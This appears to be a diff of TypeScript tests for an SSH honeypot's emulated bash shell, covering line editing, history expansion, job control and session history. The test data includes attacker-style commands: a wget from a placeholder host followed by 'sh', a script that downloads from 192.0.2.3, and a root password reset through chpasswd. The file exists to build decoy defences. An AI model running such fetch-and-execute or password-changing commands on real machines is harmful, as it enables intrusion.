@@ -6,22 +6,44 @@ import { cut, testSensor } from '../testing.ts'
 import { connect } from '../services/ssh/testing.ts'
 import { completionOf } from './complete.ts'
 import { Files } from './files.ts'
+import { hands, type Hand } from './display.ts'
+import { recall } from './history.ts'
 import { columns, LineEditor, type Completer } from './editor.ts'
 
-/** What a terminal of one line shows after bytes were written to it. */
-function screen(bytes: string): string {
-  const cells: string[] = []
-  let at = 0
-  for (const c of Buffer.from(bytes, 'latin1')
+/** What a terminal of so many columns shows after bytes were written to it: what a person at it sees. */
+function screen(bytes: string, width = 80): string {
+  const rows: string[][] = [[]]
+  let [row, column] = [0, 0]
+  const line = (): string[] => (rows[row] ??= [])
+  for (const [part] of Buffer.from(bytes, 'latin1')
     .toString('utf8')
-    .replace(/\u0007/g, '')) {
-    if (c === '\b') at = Math.max(0, at - 1)
-    else if (c !== '\r' && c !== '\n') cells[at++] = c
+    // oxlint-disable-next-line no-control-regex
+    .matchAll(/\u001b\[[\d;?]*[A-Za-z@]|[\s\S]/g)) {
+    const [, count = '', verb = ''] = /^\u001b\[([\d;?]*)([A-Za-z@])$/.exec(part) ?? []
+    const n = Number(count) || 1
+    if (verb === 'C') column = Math.min(width - 1, column + n)
+    else if (verb === 'D') column = Math.max(0, column - n)
+    else if (verb === 'A') row = Math.max(0, row - n)
+    else if (verb === '@') line().splice(column, 0, ...Array<string>(n).fill(' '))
+    else if (verb === 'P') line().splice(column, n)
+    else if (verb === 'K' || verb === 'J') line().length = Math.min(line().length, column)
+    else if (verb !== '' || part === '\u0007') continue
+    else if (part === '\b') column = Math.max(0, Math.min(column, width) - 1)
+    else if (part === '\r') column = 0
+    else if (part === '\n') row++
+    else {
+      if (column === width) [row, column] = [row + 1, 0]
+      while (line().length < column) line().push(' ')
+      line()[column++] = part
+    }
   }
-  return cells.join('').trimEnd()
+  return rows
+    .map((cells) => cells.join(''))
+    .join('')
+    .trimEnd()
 }
 
-async function type(keys: string | readonly Uint8Array[], complete?: Completer) {
+async function type(keys: string | readonly Uint8Array[], complete?: Completer, width = 80, hand?: Hand) {
   const input = new Reader()
   let out = ''
   const editor = new LineEditor(
@@ -29,14 +51,17 @@ async function type(keys: string | readonly Uint8Array[], complete?: Completer) 
       input,
       pty: true,
       signal: new AbortController().signal,
+      size: () => ({ width, height: 24 }),
       write: async (bytes) => void (out += typeof bytes === 'string' ? bytes : Buffer.from(bytes).toString('latin1')),
     },
     complete,
   )
   for (const part of typeof keys === 'string' ? [Buffer.from(keys)] : keys) input.push(part)
   input.end()
-  const line = await editor.read('$ ', { command: true }).catch(() => undefined)
-  return { line: line?.toString('utf8'), out, screen: screen(out) }
+  const line = await editor
+    .read('$ ', { keys: 'readline', paste: true, ...(hand !== undefined && { hand }) })
+    .catch(() => undefined)
+  return { line: line?.toString('utf8'), out, screen: screen(out, width) }
 }
 const [left, right, home, end, up] = ['\u001b[D', '\u001b[C', '\u001b[H', '\u001b[F', '\u001b[A']
 
@@ -85,7 +110,11 @@ test('keys in any order read the same however the network cuts them, and the scr
     fc.asyncProperty(fc.array(key, { maxLength: 40 }), fc.array(fc.nat(), { maxLength: 6 }), async (keys, places) => {
       const bytes = Buffer.from(`${keys.join('')}\r`)
       const whole = await type([bytes])
-      expect(whole.screen).toBe(`$ ${whole.line ?? ''}`.trimEnd())
+      for (const width of [7, 80])
+        for (const hand of Object.values(hands)) {
+          const one = await type([bytes], undefined, width, hand)
+          expect([one.line, one.screen]).toEqual([whole.line, `$ ${whole.line ?? ''}`.trimEnd()])
+        }
       // A sequence of a key is not cut: those take 50 ms to be told from the Escape key.
       if (!bytes.includes(27)) expect((await type([...cut(bytes, places)])).line).toBe(whole.line)
     }),
@@ -96,6 +125,11 @@ test('keys in any order read the same however the network cuts them, and the scr
 test('a long line costs no more than its length', async () => {
   const long = 'a'.repeat(60_000)
   const began = performance.now()
+  expect((await type(`${long}${'\u007f'.repeat(10_000)}\r`)).line).toHaveLength(50_000)
+  expect((await type(`${long}${left}b${'\u0014'.repeat(2000)}\r`)).line).toBe(`${long}b`)
+  expect((await type(`${long}${'\u0015\u0019'.repeat(200)}\r`)).line?.length).toBeLessThan(long.length * 2)
+  const grown = recall('!!'.repeat(30_000), ['a'.repeat(4000)])
+  expect('line' in grown ? grown.line.length : 0).toBeLessThanOrEqual(65_536)
   expect((await type(`${long}" b\u0017\u0017c\r`)).line).toBe('c')
   await using lab = await testSensor()
   const files = new Files(
@@ -105,6 +139,45 @@ test('a long line costs no more than its length', async () => {
   for (const before of [`${long}"b`, `${' '.repeat(60_000)}x`, `cat ${'\\ '.repeat(20_000)}`])
     completionOf(files.now, { before, cwd: '/', home: '/root', path: '/usr/bin' })
   expect(performance.now() - began).toBeLessThan(10_000)
+})
+
+test('the history is named as bash has it', () => {
+  const before = ['echo one two', 'wget http://x/y', 'sh y']
+  const cases: readonly [line: string, becomes: string | undefined][] = [
+    ['!!', 'sh y'],
+    ['sudo !!', 'sudo sh y'],
+    ['!echo', 'echo one two'],
+    ['!?x/?', 'wget http://x/y'],
+    ['!-2', 'wget http://x/y'],
+    ['!1:2', 'two'],
+    ['cat !$', 'cat y'],
+    ['!1:*', 'one two'],
+    ['^sh^cat^', 'cat y'],
+    ["echo 'a!b'", "echo 'a!b'"],
+    ['echo "a!"', 'echo "a!"'],
+    ['echo a\\!b', 'echo a\\!b'],
+    ['echo a != b', 'echo a != b'],
+    ['if [ ! -f x ]', 'if [ ! -f x ]'],
+    ['ls [!a]*', 'ls [!a]*'],
+    ['echo $! ${!x} # !!', 'echo $! ${!x} # !!'],
+    ['echo "root:Abc!23"|chpasswd', undefined],
+    ['!nosuch', undefined],
+  ]
+  for (const [line, becomes] of cases) {
+    const own = recall(line, before)
+    expect('line' in own ? own.line : undefined, line).toBe(becomes)
+  }
+  fc.assert(
+    fc.property(
+      fc.string({
+        maxLength: 60,
+        unit: fc.constantFrom('!', '^', '"', "'", '\\', 'a', '1', '-', '?', '$', ':', '*', ' '),
+      }),
+      (line) => {
+        recall(line, before)
+      },
+    ),
+  )
 })
 
 test('Tab completes, rings, and lists at the second time', async () => {
@@ -117,8 +190,8 @@ test('Tab completes, rings, and lists at the second time', async () => {
   expect((await type('cat pas\t\r', complete)).line).toBe('cat passwd ')
   const twice = await type('pa\t\ts\t\r', complete)
   expect(twice.line).toBe('passwd ')
-  expect(twice.out).toContain('\u0007\r\npasswd  paste   patch\r\n$ pa')
-  expect(columns(['a', 'bb', 'c'])).toBe('a   bb  c\r\n')
+  expect(twice.out).toContain('\u0007\r\npasswd  paste   patch   \r\n$ pa')
+  expect(columns(['a', 'bb', 'c'])).toBe('a   bb  c   \r\n')
 })
 
 /** A shell at a terminal: what is typed, and what comes until something is there. */
@@ -132,9 +205,11 @@ async function terminal(client: Client, term: string) {
     out = ''
     stream.write(keys)
     for (let i = 0; i < 800 && !until.test(out); i++) await new Promise((resolve) => setTimeout(resolve, 10))
-    return out.replace(/\r/g, '')
+    // What turns pastes in brackets on and off is looked at elsewhere.
+    // oxlint-disable-next-line no-control-regex
+    return out.replace(/\u001b\[\?2004[hl]|\r/g, '')
   }
-  return { stream, say }
+  return { stream, say, raw: () => out }
 }
 
 test('at a terminal: passwords are asked for, read waits, cat takes lines up to ^D, ^C gives up, Tab knows the machine', async () => {
@@ -150,12 +225,12 @@ test('at a terminal: passwords are asked for, read waits, cat takes lines up to 
   expect(await say('read -p "who? " who\r', /who\? $/)).toContain('who? ')
   await say('me\r', prompt)
   expect(await say('echo [$who]\r', prompt)).toContain('\n[me]\n')
-  await say('cat > /tmp/typed.sh\r', /sh\r\n$/)
+  await say('cat > /tmp/typed.sh\r', /sh\r\n\S*\r$/)
   stream.write('#!/bin/sh\rwget http://192.0.2.3/typed\r')
   await say('\u0004', prompt)
   expect(await say('cat /tmp/typed.sh | wc -l\r', prompt)).toContain('\n2\n')
   expect((await lab.until('artifact.stored', ({ data }) => data.name === '/tmp/typed.sh')).data.size).toBe(38)
-  await say('cat\r', /cat\r\n$/)
+  await say('cat\r', /cat\r\n\S*\r$/)
   expect(await say('x\u0003', prompt)).toContain('^C\n')
   expect(await say('cat /etc/hostn\t\r', prompt)).toContain(
     `cat /etc/hostname \n${lab.sensor.persona.machine.hostname}\n`,
@@ -196,4 +271,73 @@ test('su and sudo ask who one is, keep what is tried, and let go on as another',
     ['sudo', other?.password, true],
   ])
   expect(lab.log).toEqual([])
+}, 30_000)
+
+test('^C ends what runs, ^Z stops it, what is printed is seen at once, and another session need not wait', async () => {
+  await using lab = await testSensor()
+  const client = await connect(lab)
+  const { say, raw } = await terminal(client, 'xterm')
+  const prompt = /# $/
+  await say('', prompt)
+  await say('sleep 300\r', /300\r\n/)
+  // Another door of the same attacker is open meanwhile.
+  const beside = await connect(lab)
+  const other = await terminal(beside, 'xterm')
+  await other.say('', prompt)
+  expect(await other.say('echo be""side > /tmp/beside; cat /tmp/beside\r', prompt)).toContain('\nbeside\n')
+  expect(await say('\u0003', prompt)).toMatch(/^\^C\n\S+# $/)
+  expect(await say('echo $?; cat /tmp/beside\r', prompt)).toContain('\n130\nbeside\n')
+  // What is printed before it sleeps comes before it has ended, and is there for others.
+  expect(await say('echo first | tee /tmp/first; sleep 300; echo last\r', /\rfirst\r\n/)).toContain('\nfirst\n')
+  expect(await other.say('cat /tmp/first\r', prompt)).toContain('\nfirst\n')
+  expect(await say('\u001a', prompt)).toMatch(/^\^Z\n\[1\]\+ {2}Stopped {17}echo first/)
+  expect(await say('jobs; echo $?\r', prompt)).toMatch(/Stopped[^\n]*\n(?:0|148)\n/)
+  expect(await say('exit\r', prompt)).toContain('logout\nThere are stopped jobs.\n')
+  await say('fg\r', /sleep 300; echo last\r\n/)
+  expect(await say('\u0003', prompt)).toContain('^C\n')
+  expect(await say('sleep 1 &\r', prompt)).toMatch(/\[\d\] \d+\n/)
+  // What was typed while something ran is the next line.
+  expect(await say('sleep 0.3\recho ahe""ad\r', /\rahead\r\n[\s\S]*# $/)).toContain('\nahead\n')
+  expect(await say('!ec\r', prompt)).toContain('echo ahe""ad\nahead\n')
+  expect(raw()).toContain('\u001b[?2004l\r')
+  expect(await say('stty -echo\r', prompt)).toContain('stty -echo\n')
+  expect(await say('echo se""cret\r', prompt)).not.toContain('echo')
+  client.end()
+  beside.end()
+  expect(lab.log).toEqual([])
+}, 60_000)
+
+test('without a terminal lines are run as they come: nothing is named, echoed or kept', async () => {
+  await using lab = await testSensor()
+  const client = await connect(lab)
+  const out = await new Promise<string>((resolve, reject) =>
+    client.shell(false, (error, stream) => {
+      if (error) return reject(error)
+      let [text, errors] = ['', '']
+      stream.on('data', (part: Buffer) => (text += part.toString('latin1')))
+      stream.stderr.on('data', (part: Buffer) => (errors += part.toString('latin1')))
+      stream.on('close', () => resolve(`${text}--\n${errors}`))
+      stream.end('echo "root:Abc!23"\necho one; sleep 0.1; echo two\n!!\nexit\n')
+    }),
+  )
+  expect(out).toBe('root:Abc!23\none\ntwo\n--\n-bash: line 3: !!: command not found\n')
+  client.end()
+  expect(lab.log).toEqual([])
+})
+
+test('the shell remembers what was typed the last time', async () => {
+  await using lab = await testSensor()
+  const first = await connect(lab)
+  const one = await terminal(first, 'xterm')
+  await one.say('', /# $/)
+  await one.say('echo the-last-time\r', /# $/)
+  await one.say('exit\r', /logout/)
+  const second = await connect(lab)
+  const two = await terminal(second, 'xterm')
+  await two.say('', /# $/)
+  expect(await two.say('\u001b[A\u001b[A', /the-last-time/)).toContain('cho the-last-time')
+  await two.say('\u0015', /./)
+  expect(await two.say('history | tail -3\r', /# $/)).toContain('echo the-last-time')
+  first.end()
+  second.end()
 }, 30_000)
